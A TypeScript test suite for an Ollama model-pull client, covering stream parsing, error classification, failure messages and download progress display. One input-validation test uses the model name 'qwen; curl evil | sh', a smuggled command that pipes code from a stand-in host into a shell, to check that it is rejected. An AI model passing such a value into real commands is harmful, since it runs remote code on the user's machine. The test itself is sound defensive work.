/**
 * The pull's stream reader and outcome (scripts/pull.ts) on real captured streams
 * (test/fixtures/ollama-pull/, sources in SOURCES.md), through the real HTTP client against a
 * loopback server that streams them; and the progress formatter (scripts/pull-progress.ts) with
 * an injected clock.
 */
import http from 'node:http';
import { afterEach, describe, expect, it } from 'vitest';
import { classifyPullError, describePullFailure, modelsDirFromError, NdjsonLines, parsePullLine, pullModel, type PullEvent, type PullResult } from '../../scripts/pull.ts';
import { formatEta, humanBytes, PullProgressView, type ProgressSink } from '../../scripts/pull-progress.ts';
import { testContext } from './support/context.ts';
import { fixture } from './support/fixtures.ts';
import { ndjson, startPullServer, type PullScript, type PullServer } from './support/pull-server.ts';

let server: PullServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

async function pull(script: PullScript, model = 'qwen2.5-coder:7b') {
  server = await startPullServer({ script: () => script });
  const ctx = testContext();
  const events: PullEvent[] = [];
  const result = await pullModel(ctx, { baseUrl: server.url, model, onEvent: (event) => events.push(event) });
  return { result, events, ctx };
}

/** The `error` text of a CLI capture: what follows "Error: " (the CLI prints the stream's error verbatim). */
function cliError(file: string): string {
  const line = fixture(`ollama-pull/${file}`).split('\n').find((text) => text.startsWith('Error: '));
  return (line as string).slice('Error: '.length).trim();
}

describe('the stream reader on real captures', () => {
  it('issue 4417: two layers, the first lines without completed, then success; bytes are the layers\' totals', async () => {
    const body = fixture('ollama-pull/success-two-layers-ollama-4417-joined.ndjson');
    const { result, events } = await pull({ chunks: [body] });
    expect(result).toMatchObject({ ok: true, bytes: 408734816 + 260 });
    expect(events[0]).toEqual({ status: 'pulling manifest', digest: undefined, total: 0, completed: 0 });
    // The first layer line has total but no completed: 0, not undefined or NaN.
    expect(events[1]).toMatchObject({ digest: expect.stringMatching(/^sha256:26bd607a51eb/), total: 408734816, completed: 0 });
    expect(events.map((event) => event.status).slice(-4)).toEqual(['verifying sha256 digest', 'writing manifest', 'removing any unused layers', 'success']);
  });

  it('a cached model: every layer one line with total == completed, still success', async () => {
    const { result, events } = await pull({ chunks: [fixture('ollama-pull/cached-six-layers-llama2-deep-dive.ndjson')] });
    expect(result.ok).toBe(true);
    expect(events.filter((event) => event.digest).every((event) => event.total === event.completed && event.total > 0)).toBe(true);
  });

  it('a small layer that completes within one progress tick (the orca-mini tail): total first without completed, then total == completed, then success', async () => {
    const { result, events } = await pull({ chunks: [fixture('ollama-pull/success-tail-orca-mini-3b-blog.ndjson')] });
    expect(result).toMatchObject({ ok: true, bytes: 455 });
    expect(events.filter((event) => event.digest).map((event) => event.completed)).toEqual([0, 455]);
  });

  it('issue 6590: the prune step failing is a status line, not an error: the pull still succeeds', async () => {
    // The capture is the CLI's rendering: for events without a digest it prints the status text as
    // Ollama sent it, one line each, so each line is one {"status": …} of the stream.
    const statuses = fixture('ollama-pull/cli-couldnt-remove-unused-layers-ollama-6590.txt').split('\n').map((line) => line.trim()).filter(Boolean);
    expect(statuses.at(-1)).toBe('success');
    const body = statuses.map((status) => `${JSON.stringify({ status })}\n`).join('');
    const { result, events } = await pull({ chunks: [body] });
    expect(result.ok).toBe(true);
    expect(events.map((event) => event.status)).toContain("couldn't remove unused layers: invalid character '\\x00' looking for beginning of value");
  });

  it('unknown model: pulling manifest, then an error line with HTTP 200 still set', async () => {
    const { result } = await pull({ chunks: [fixture('ollama-pull/unknown-model-podman-desktop-1626.ndjson')] });
    expect(result).toMatchObject({ ok: false, failure: 'unknown-model', status: 200, detail: 'pull model manifest: file does not exist' });
  });

  it('the same bytes in chunks split anywhere (mid-line, mid-number, mid-UTF-8) give the same outcome and events', async () => {
    const body = fixture('ollama-pull/success-two-layers-ollama-4417-joined.ndjson').replace('pulling manifest', 'pulling manifest ⠋');
    const whole = await pull({ chunks: [body] });
    await server?.close();
    const bytes = Buffer.from(body, 'utf8');
    // Split inside the 3-byte braille character and every 7 bytes elsewhere.
    const cut = bytes.indexOf(Buffer.from('⠋')) + 1;
    const pieces: Buffer[] = [bytes.subarray(0, cut)];
    for (let at = cut; at < bytes.length; at += 7) pieces.push(bytes.subarray(at, Math.min(at + 7, bytes.length)));
    server = undefined;
    // A server that writes the raw byte pieces, so the client sees exactly these splits.
    const split = await new Promise<{ url: string; close: () => void }>((resolve) => {
      const s = http.createServer(async (_request, response) => {
        response.writeHead(200, { 'Content-Type': 'application/x-ndjson' });
        for (const piece of pieces) await new Promise<void>((done) => response.write(piece, () => done()));
        response.end();
      });
      s.listen(0, '127.0.0.1', () => resolve({ url: `http://127.0.0.1:${(s.address() as import('node:net').AddressInfo).port}`, close: () => s.close() }));
    });
    const events: PullEvent[] = [];
    const result = await pullModel(testContext(), { baseUrl: split.url, model: 'x', onEvent: (event) => events.push(event) });
    split.close();
    expect(pieces.length).toBeGreaterThan(100);
    expect(result).toEqual(whole.result);
    expect(events).toEqual(whole.events);
    expect(events[0]?.status).toBe('pulling manifest ⠋');
  });

  it('a last line without its newline still counts', async () => {
    const { result } = await pull({ chunks: ['{"status":"pulling manifest"}\n{"status":"success"}'] });
    expect(result.ok).toBe(true);
  });
});

describe('success only on "success"', () => {
  it('a stream that ends after "writing manifest" is a failure, whatever the lines before say', async () => {
    const lines = fixture('ollama-pull/success-two-layers-ollama-4417-joined.ndjson').trimEnd().split('\n').slice(0, -1);
    const { result } = await pull({ chunks: [ndjson(lines)] });
    expect(result).toMatchObject({ ok: false, failure: 'incomplete', detail: 'the answer ended without "success"' });
  });

  it('a connection that breaks off halfway (Ollama restarted) is incomplete, with the bytes seen so far', async () => {
    const lines = fixture('ollama-pull/success-two-layers-ollama-4417-joined.ndjson').split('\n').slice(0, 6);
    const { result } = await pull({ chunks: [ndjson(lines)], breakOff: true });
    expect(result).toMatchObject({ ok: false, failure: 'incomplete', bytes: 408734816 });
  });

  it('"success" that is not the last line does not count', async () => {
    const { result } = await pull({ chunks: [ndjson(['{"status":"success"}', '{"status":"writing manifest"}'])] });
    expect(result.ok).toBe(false);
  });

  it('an error after "success"-looking wording still fails: {"error"} ends the stream', async () => {
    const { result } = await pull({ chunks: [ndjson(['{"status":"verifying sha256 digest"}', `{"error":"digest mismatch, file must be downloaded again: want sha256:${'a'.repeat(64)}, got sha256:${'b'.repeat(64)}"}`, '{"status":"success"}'])] });
    expect(result).toMatchObject({ ok: false, failure: 'other', detail: expect.stringMatching(/^digest mismatch/) });
  });

  it('HTTP 400 before streaming says what Ollama answered', async () => {
    const { result } = await pull({ reject: '{"error":"invalid model name"}', chunks: [] });
    expect(result).toMatchObject({ ok: false, failure: 'rejected', status: 400, detail: 'invalid model name' });
  });

  it('nothing listening: unreachable, not incomplete', async () => {
    server = await startPullServer();
    const url = server.url;
    await server.close();
    server = undefined;
    const result = await pullModel(testContext(), { baseUrl: url, model: 'qwen2.5-coder:7b' });
    expect(result).toMatchObject({ ok: false, failure: 'unreachable' });
  });

  it('silence longer than the bound ends the request (not total time)', async () => {
    server = await startPullServer({ script: () => ({ chunks: ['{"status":"pulling manifest"}\n'], hang: true }) });
    const result = await pullModel(testContext(), { baseUrl: server.url, model: 'qwen2.5-coder:7b', silenceMs: 200 });
    expect(result).toMatchObject({ ok: false, failure: 'incomplete' });
  });

  it('refuses a name Ollama would reject before sending anything', async () => {
    server = await startPullServer();
    await expect(pullModel(testContext(), { baseUrl: server.url, model: 'qwen; curl evil | sh' })).rejects.toThrow(/not a valid Ollama model name/);
    expect(server.pulls).toEqual([]);
  });

  it('sends {"model", "stream": true} and nothing else (no deprecated insecure flag)', async () => {
    await pull({ chunks: ['{"status":"success"}\n'] });
    expect(server?.pulls).toEqual([{ model: 'qwen2.5-coder:7b', stream: true }]);
  });
});

describe('numbers Ollama (or a wrong server) sends', () => {
  it('huge totals past 2^53, negative and fractional numbers are unknown (0), completed is clamped to total', () => {
    expect(parsePullLine('{"status":"pulling a","digest":"sha256:aa","total":1e300,"completed":5}')).toMatchObject({ kind: 'event', event: { total: 0, completed: 5 } });
    expect(parsePullLine('{"status":"pulling a","digest":"sha256:aa","total":99999999999999999999,"completed":1}')).toMatchObject({ event: { total: 0 } });
    expect(parsePullLine('{"status":"pulling a","digest":"sha256:aa","total":-5,"completed":-1}')).toMatchObject({ event: { total: 0, completed: 0 } });
    expect(parsePullLine('{"status":"pulling a","digest":"sha256:aa","total":100,"completed":250}')).toMatchObject({ event: { total: 100, completed: 100 } });
    expect(parsePullLine('{"status":"pulling a","digest":"sha256:aa","total":"100","completed":1.5}')).toMatchObject({ event: { total: 0, completed: 0 } });
  });

  it('JSON that is not a ProgressResponse is ignored, never thrown', () => {
    for (const line of ['[1,2]', 'null', '"text"', '{"foo":1}', '{"status":5}', 'not json {', '']) expect(parsePullLine(line).kind).toBe('ignored');
  });
});

describe('NdjsonLines', () => {
  it('keeps a partial line across chunks', () => {
    const lines = new NdjsonLines();
    expect(lines.push('{"status":"pul')).toEqual([]);
    expect(lines.push('ling manifest"}\n{"sta')).toEqual(['{"status":"pulling manifest"}']);
    expect(lines.push('tus":"success"}')).toEqual([]);
    expect(lines.end()).toEqual(['{"status":"success"}']);
  });
});

describe('error classes on real texts', () => {
  const cases: [string, string][] = [
    ['cli-error-unknown-model-pytidb-102.txt', 'unknown-model'],
    ['cli-error-dns-server-misbehaving-ollama-8065.txt', 'network'],
    ['cli-error-dns-no-such-host-ollama-437.txt', 'network'],
    ['cli-error-dns-i-o-timeout-ollama-3434.txt', 'network'],
    ['cli-error-connect-i-o-timeout-ollama-4933.txt', 'network'],
    ['cli-error-connection-reset-ollama-12435.txt', 'network'],
    // The blob CDN's failure has no "pull model manifest" prefix, and is a network failure still.
    ['cli-error-blob-cdn-no-such-host-ollama-4992.txt', 'network'],
    ['cli-error-disk-full-ollama-1731.txt', 'disk-full'],
    ['cli-error-disk-full-mid-layer-ollama-15547.txt', 'disk-full'],
    ['cli-error-max-retries-eof-ollama-1770.txt', 'other'],
  ];
  for (const [file, kind] of cases) it(`${file} → ${kind}`, () => expect(classifyPullError(cliError(file))).toBe(kind));

  it('the models folder is read from the disk-full error itself, both blob name forms', () => {
    expect(modelsDirFromError(cliError('cli-error-disk-full-mid-layer-ollama-15547.txt'))).toBe('/usr/share/ollama/.ollama/models');
    expect(modelsDirFromError(cliError('cli-error-disk-full-ollama-1731.txt'))).toBe('/usr/share/ollama/.ollama/models');
    expect(modelsDirFromError('no space left on device')).toBeUndefined();
  });

  const context = { model: 'qwen2.5-coder:7b', source: '/home/u/.stigmer/config.yaml line 3', retry: 'npx stigmer-setup --yes --pull', humanBytes };
  const failure = (failure: PullResult['failure'], detail: string, extra: Partial<PullResult> = {}): PullResult => ({ ok: false, failure, detail, bytes: 0, status: 200, ...extra });

  it('unknown model: names the model and where the name came from, with its line', () => {
    const text = describePullFailure(failure('unknown-model', 'pull model manifest: file does not exist'), context);
    expect(text.message).toContain('qwen2.5-coder:7b');
    expect(text.message).toContain('/home/u/.stigmer/config.yaml line 3');
    expect(text.fix).toContain('/home/u/.stigmer/config.yaml line 3');
  });

  it('network: the proxy goes on the Ollama service, with the installation\'s own command', () => {
    const text = describePullFailure(failure('network', cliError('cli-error-dns-no-such-host-ollama-437.txt')), { ...context, proxyCommand: 'PROXY-COMMAND' });
    expect(text.message).toMatch(/inside Ollama's server/);
    expect(text.fix).toMatch(/for the Ollama service, not in this shell: PROXY-COMMAND/);
    expect(describePullFailure(failure('network', 'dial tcp: i/o timeout'), context).fix).toMatch(/HTTPS_PROXY in the environment Ollama's server starts with/);
  });

  it('disk full: where models live (from the error, else the installation\'s default) and the layer\'s size', () => {
    const fromError = describePullFailure(failure('disk-full', cliError('cli-error-disk-full-mid-layer-ollama-15547.txt'), { lastLayer: { digest: 'sha256:x', total: 9_600_000_000, completed: 8_900_000_000 } }), context);
    expect(fromError.message).toContain('/usr/share/ollama/.ollama/models;');
    expect(fromError.message).toContain('9.6 GB');
    const fromDefault = describePullFailure(failure('disk-full', 'no space left on device'), { ...context, modelsDir: '~/.ollama/models' });
    expect(fromDefault.message).toContain('~/.ollama/models (or OLLAMA_MODELS');
  });

  it('HTTP 400: says what Ollama answered', () => {
    expect(describePullFailure(failure('rejected', 'invalid model name', { status: 400 }), context).message).toMatch(/HTTP 400\)\. Ollama said: invalid model name/);
  });
});

describe('progress formatting', () => {
  function view(live: boolean) {
    let now = 0;
    const out: { redraw: string[]; lines: string[]; spinners: (string | undefined)[]; ends: number } = { redraw: [], lines: [], spinners: [], ends: 0 };
    const sink: ProgressSink = {
      redraw: (text) => void out.redraw.push(text),
      endRedraw: () => void out.ends++,
      line: (text) => void out.lines.push(text),
      spinner: (text) => void out.spinners.push(text),
    };
    const progress = new PullProgressView(sink, { live, now: () => now, model: 'qwen2.5-coder:7b' });
    return { progress, out, advance: (ms: number) => (now += ms) };
  }
  const layer = (completed: number, total = 4_683_073_184): PullEvent => ({ status: 'pulling 60e05f210007', digest: `sha256:60e05f210007${'0'.repeat(52)}`, total, completed });

  it('HumanBytes as Ollama prints it: decimal units, one decimal below 10 unless whole', () => {
    expect(humanBytes(4_683_073_184)).toBe('4.7 GB');
    expect(humanBytes(408_734_816)).toBe('408 MB');
    expect(humanBytes(2_000_000_000)).toBe('2 GB');
    expect(humanBytes(1_100)).toBe('1.1 KB');
    expect(humanBytes(260)).toBe('260 B');
    expect(humanBytes(12_000)).toBe('12 KB');
  });

  it('ETA like a rounded Go duration, capped at 99h+', () => {
    expect(formatEta(76)).toBe('1m16s');
    expect(formatEta(45.4)).toBe('45s');
    expect(formatEta(3 * 3600 + 60)).toBe('3h1m0s');
    expect(formatEta(100 * 3600)).toBe('99h+');
    expect(formatEta(Infinity)).toBe('');
  });

  it('on a terminal: at most one redraw per 100 ms although Ollama sends a line every 60 ms', () => {
    const { progress, out, advance } = view(true);
    for (let i = 1; i <= 100; i++) {
      advance(60);
      progress.update(layer(i * 10_000_000));
    }
    // 6 s of lines at 60 ms: 100 lines, at most 60 redraws (one per 100 ms).
    expect(out.redraw.length).toBeLessThanOrEqual(61);
    expect(out.redraw.length).toBeGreaterThan(30);
    expect(out.redraw.at(-1)).toMatch(/^pulling 60e05f210007: {1,2}\d+%  [\d.]+ [MG]B\/4\.7 GB  [\d.]+ MB\/s  (\d+m)?\d+s$/);
  });

  it('rate over the sliding window and the ETA it gives', () => {
    const { progress, out, advance } = view(true);
    // 50 MB a second for 20 s.
    for (let s = 0; s <= 20; s++) {
      progress.update(layer(s * 50_000_000));
      advance(1000);
    }
    expect(out.redraw.at(-1)).toContain('50 MB/s');
    // (4683 - 1000) MB left at 50 MB/s = 73.7 s.
    expect(out.redraw.at(-1)).toMatch(/1m14s$/);
  });

  it('the last line of a layer is always drawn, and stays (100 % and its size), then a summary', () => {
    const { progress, out, advance } = view(true);
    // The layer's first line has no completed (Ollama omits 0): it draws nothing yet.
    progress.update(layer(0));
    expect(out.redraw).toEqual([]);
    progress.update(layer(1_000_000));
    advance(10);
    progress.update(layer(4_683_073_184));
    progress.update({ status: 'verifying sha256 digest', total: 0, completed: 0 });
    expect(out.redraw.at(-1)).toBe('pulling 60e05f210007: 100% 4.7 GB');
    expect(out.ends).toBe(1);
    expect(out.spinners).toEqual(['verifying sha256 digest']);
    advance(65_000);
    progress.update({ status: 'success', total: 0, completed: 0 });
    expect(progress.finish({ ok: true, bytes: 4_683_073_184 })).toBe('✓ Pulled qwen2.5-coder:7b: 4.7 GB in 1m5s.');
  });

  it('without a terminal: a plain line at most every 10 s or every 10 %', () => {
    const { progress, out, advance } = view(false);
    // 1 % a second for 100 s: 10 % steps every 10 s, so about 11 lines, never one per update.
    for (let s = 0; s <= 100; s++) {
      progress.update(layer(Math.round((4_683_073_184 * s) / 100)));
      advance(1000);
    }
    expect(out.redraw).toEqual([]);
    expect(out.lines.length).toBeGreaterThanOrEqual(10);
    expect(out.lines.length).toBeLessThanOrEqual(12);
    // A slow layer: 0.1 % a second still gets a line every 10 s.
    const slow = view(false);
    for (let s = 0; s <= 60; s++) {
      slow.progress.update(layer(s * 4_683_073));
      slow.advance(1000);
    }
    // s = 0 has no bytes yet (no bar, as in ollama pull); then s = 1, 11, 21, 31, 41, 51.
    expect(slow.out.lines.length).toBe(6);
  });

  it('byte-less statuses are a spinner, shown when the text changes', () => {
    const { progress, out } = view(false);
    progress.update({ status: 'pulling manifest', total: 0, completed: 0 });
    progress.update({ status: 'pulling manifest', total: 0, completed: 0 });
    progress.update({ status: 'writing manifest', total: 0, completed: 0 });
    expect(out.spinners).toEqual(['pulling manifest', 'writing manifest']);
  });

  it('a resumed layer says how much of it this run downloaded', () => {
    const { progress } = view(false);
    progress.update(layer(3_000_000_000));
    progress.update(layer(4_683_073_184));
    expect(progress.finish({ ok: true, bytes: 4_683_073_184 })).toMatch(/^✓ Pulled qwen2\.5-coder:7b: 4\.7 GB \(1\.7 GB downloaded, the rest was already there\) in /);
  });

  it('after success, a layer whose last line stopped short of its total counts as downloaded, not as already there', () => {
    // Ollama's last progress line for a downloaded layer comes up to 60 ms before the end (no final
    // completed == total line): the summary must not call those bytes "already there".
    const { progress } = view(false);
    progress.update(layer(0)); // a fresh layer's first lines carry no completed (omitempty)
    progress.update(layer(1_000_000));
    progress.update(layer(4_600_000_000));
    expect(progress.finish({ ok: true, bytes: 4_683_073_184 })).toMatch(/^✓ Pulled qwen2\.5-coder:7b: 4\.7 GB in /);
  });

  it('a cached layer (total == completed at once) prints one line, not two', () => {
    const { progress, out } = view(false);
    progress.update(layer(4_683_073_184));
    progress.update({ status: 'verifying sha256 digest', total: 0, completed: 0 });
    expect(out.lines).toEqual(['pulling 60e05f210007: 100% 4.7 GB']);
  });
});
